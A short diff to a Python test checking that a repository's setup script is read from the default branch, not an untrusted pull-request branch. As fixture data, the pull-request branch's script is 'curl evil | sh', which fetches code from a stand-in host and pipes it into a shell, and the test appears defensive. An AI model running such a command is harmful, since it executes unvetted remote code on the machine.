@@ -144,7 +144,7 @@ def test_setup_is_read_from_the_default_branch(origin: Path, tmp_path: Path) -> 
     clone = git_repo.clone(str(origin), tmp_path / "work", branch="pr")
     setup = git_repo.read_setup(clone, git_repo.default_ref(clone))
     assert setup == RepoSetup(script="pip install -e .\n", network=True)
-    assert git_repo.read_setup(clone, "HEAD") == RepoSetup("curl evil | sh\n", False)
+    assert git_repo.read_setup(clone, "HEAD") == RepoSetup("curl evil | sh\n", None)  # not said
     with pytest.raises(git_repo.RepoError):
         git_repo.read_setup(clone, "no-such-branch")
 
